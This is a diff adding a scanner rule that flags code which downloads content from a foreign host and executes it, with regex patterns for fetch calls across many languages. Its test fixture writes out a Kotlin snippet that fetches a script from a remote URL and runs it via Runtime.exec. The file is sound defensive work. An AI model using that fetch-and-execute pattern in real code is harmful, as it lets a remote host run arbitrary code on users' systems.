@@ -1,0 +1,51 @@
+/** RC-03: what a host sends reaches a call that runs it, in any language. */
+import { inFile } from '../../engine/example.ts';
+import { exactPattern, raw } from '../../engine/pattern.ts';
+import { row, type Row, type RowHit } from '../../engine/rule.ts';
+import type { Severity } from '../../../schema/vocabulary.ts';
+import { byForeignHost } from '../programs/foreign-hosts.ts';
+import { callOfAny, startOfAny } from './calls.ts';
+import { holdersOf, isTestFile } from './reached.ts';
+
+const fetchers = [
+  String.raw`\b(?:requests|httpx|session|aiohttp|axios|got|ky|needle|superagent|http|https|ureq|reqwest|HTTP|client)(?:\.|::)(?:get|Get|request|blocking::get|post)\w{0,12}\s?\(`,
+  String.raw`\burl(?:open|retrieve)\s?\(|(?<![.\w])fetch\s?\(|\bURI\.open\b|\bURI\.parse\b|\bNet::HTTP\.get|\bfile_get_contents\(\s?["']https?:|\bHTTP::Tiny\b|\bLWP::\w{4,10}`,
+  String.raw`\bDownload(?:String|File|Data)\w{0,5}\s?\(|\bGet(?:String|ByteArray|Stream)Async\s?\(|\bnew URL\(\s?["']https?|\bcopy\(\s?["']https?:`,
+  String.raw`\b(?:Invoke-WebRequest|Invoke-RestMethod|iwr|irm|Start-BitsTransfer)\s|\b(?:curl|wget|aria2c)\s`,
+].join('|');
+
+function byRun(hit: RowHit): Severity | null {
+  const { text, file } = hit.region;
+  if (isTestFile(file)) return null;
+  const names = holdersOf(text, hit.match[0]);
+  if (names === null) return null;
+  if (!callOfAny(names).test(text) && !startOfAny(names).test(text)) return null;
+  return byForeignHost(hit);
+}
+
+/** Rows of RC-03. */
+export const fetchedRun: readonly Row[] = [
+  row('what a host sends is run under the name that holds it, in any language', {
+    in: ['script', 'decoded', 'hidden'],
+    within: 'block',
+    match: exactPattern(raw(`(?:${fetchers})`), raw(String.raw`[^\n]{0,160}https?:\/\/[^\s"'\x60)>]{4,200}`)),
+    severity: 'high',
+    weigh: byRun,
+    catches: [
+      inFile(
+        'scripts/step.kts',
+        'val step = java.io.File("step.sh")',
+        'val text = client.get("https://parts.farrowmere.io/step")',
+        'step.writeText(text)',
+        'Runtime.getRuntime().exec(text)',
+      ),
+    ],
+    spares: [
+      inFile(
+        'scripts/step.rb',
+        'text = Net::HTTP.get(URI("https://parts.farrowmere.io/step"))',
+        'puts text.lines.first',
+      ),
+    ],
+  }),
+];
